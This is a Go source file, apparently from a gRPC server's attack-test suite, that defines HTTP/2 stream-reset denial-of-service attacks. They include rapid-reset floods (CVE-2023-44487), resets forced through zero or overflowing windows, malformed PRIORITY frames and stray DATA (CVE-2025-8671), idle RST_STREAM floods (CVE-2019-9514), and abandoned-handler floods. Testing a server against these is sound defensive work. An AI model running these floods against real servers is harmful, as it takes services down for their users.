// SPDX-License-Identifier: Apache-2.0

package kinds

import (
	"time"

	"google.golang.org/grpc/attack/internal/attacker"
	"google.golang.org/grpc/attack/internal/orders"
	"google.golang.org/grpc/attack/internal/wire"
)

// resetKinds are attacks on a server with streams that end at once (RFC 9113, 5.1).
var resetKinds = []Kind{
	{
		Name: "server/reset/rapid", Short: true,
		About:  "calls that are reset at once (CVE-2023-44487)",
		Attack: flood(4, true, headersThenReset(slowCall, true)),
	},
	{
		Name:  "server/reset/rapid-limited",
		About: "the same with MaxConcurrentStreams(100) (CVE-2023-44487)",
		Serve: limited, Attack: flood(4, true, headersThenReset(slowCall, true)),
	},
	{
		Name: "server/reset/rapid-unread", Serve: limited,
		About:  "the same, nobody reads",
		Attack: flood(4, false, headersThenReset(slowCall, true)),
	},
	{
		Name:   "server/reset/headers-only",
		About:  "HEADERS and RST_STREAM without any message (GHSA-hrxh-6v49-42gf)",
		Attack: flood(4, true, headersThenReset(slowCall, false)),
	},
	{
		Name: "server/reset/made-by-window", Serve: limited, Short: true,
		About:  "calls that the server has to reset: WINDOW_UPDATE of 0 (CVE-2025-8671)",
		Attack: flood(4, true, headersThen(slowCall, func(c *attacker.Conn, id uint32) error { return c.Window(id, 0) })),
	},
	{
		Name: "server/reset/made-by-window-unread", Serve: limited,
		About:  "the same, nobody reads (CVE-2025-8671)",
		Attack: flood(4, false, headersThen(slowCall, func(c *attacker.Conn, id uint32) error { return c.Window(id, 0) })),
	},
	{
		Name: "server/reset/made-by-overflow", Serve: limited,
		About:  "calls that the server has to reset: a window above 2^31-1 (CVE-2025-8671)",
		Attack: flood(4, true, headersThen(slowCall, func(c *attacker.Conn, id uint32) error { return c.Window(id, 1<<31-1) })),
	},
	{
		Name: "server/reset/made-by-priority", Serve: limited, Dear: 120 * time.Millisecond,
		About: "calls that the server has to reset: PRIORITY of a wrong length (CVE-2025-8671)",
		Attack: flood(4, true, headersThen(slowCall, func(c *attacker.Conn, id uint32) error {
			return c.Frame(wire.Priority, 0, id, make([]byte, 4))
		})),
	},
	{
		Name: "server/reset/made-by-data", Serve: limited,
		About: "DATA behind the end of a call (CVE-2025-8671)",
		Attack: flood(4, true, func(c *attacker.Conn) error {
			id, err := c.Call(orders.Slow)
			if err != nil {
				return err
			}
			return c.Data(id, 0, []byte{0})
		}),
	},
	{
		Name:  "server/reset/idle-flood",
		About: "RST_STREAM for streams that were never opened: a connection error each (CVE-2019-9514)",
		Attack: flood(16, true, func(c *attacker.Conn) error {
			if err := c.Reset(c.Stream(), wire.Cancel); err != nil {
				return err
			}
			return c.Flush()
		}),
	},
	{
		Name:  "server/reset/closed-flood",
		About: "RST_STREAM again and again for one stream that is over",
		Attack: func(a *attacker.Attacker) error {
			return a.Conns(4, func(c *attacker.Conn) error {
				c.Drain(nil)
				id, err := c.Call(orders.Echo)
				if err != nil {
					return err
				}
				return repeat(c, func(c *attacker.Conn) error { return c.Reset(id, wire.Cancel) })
			})
		},
	},
	{
		Name: "server/reset/abandoned-handlers", Short: true, Time: 4 * time.Second,
		About:  "1,200 calls whose handlers go on after they were reset; PINGs and calls on the same connection want answers",
		Attack: abandon(1200),
	},
	{
		Name: "server/reset/abandoned-handlers-limited", Serve: limited, Time: 4 * time.Second,
		About:  "150 of them with MaxConcurrentStreams(100)",
		Attack: abandon(150),
	},
}

var slowCall = wire.Request(orders.Slow)

// headersThen opens a stream and does something to it.
func headersThen(block []byte, then func(*attacker.Conn, uint32) error) script {
	return func(c *attacker.Conn) error {
		id := c.Stream()
		if err := c.Headers(id, 0, block); err != nil {
			return err
		}
		return then(c, id)
	}
}

func headersThenReset(block []byte, message bool) script {
	empty := wire.AppendMessage(nil, 0, nil)
	return headersThen(block, func(c *attacker.Conn, id uint32) error {
		if message {
			// The window of the connection does not end: five bytes a stream, and the
			// server hands them back or ends the stream.
			if err := c.Frame(wire.Data, wire.EndStream, id, empty); err != nil {
				return err
			}
		}
		return c.Reset(id, wire.Cancel)
	})
}

// abandon starts handlers that never return, resets their streams, and asks for what the
// connection owes all the same.
func abandon(n int) attack {
	return func(a *attacker.Attacker) error {
		return a.Conns(1, func(c *attacker.Conn) error {
			p := c.Probe()
			for range n / 50 {
				if err := abandonSome(c, 50); err != nil {
					return err
				}
			}
			return p.Run()
		})
	}
}

// abandonSome resets n calls when their handlers run.
func abandonSome(c *attacker.Conn, n int) error {
	var ids []uint32
	for range n {
		id, err := c.Call(orders.Stuck)
		if err != nil {
			return err
		}
		ids = append(ids, id)
	}
	if err := c.Flush(); err != nil {
		return err
	}
	c.Attacker().Sleep(10 * time.Millisecond)
	for _, id := range ids {
		if err := c.Reset(id, wire.Cancel); err != nil {
			return err
		}
	}
	return c.Flush()
}
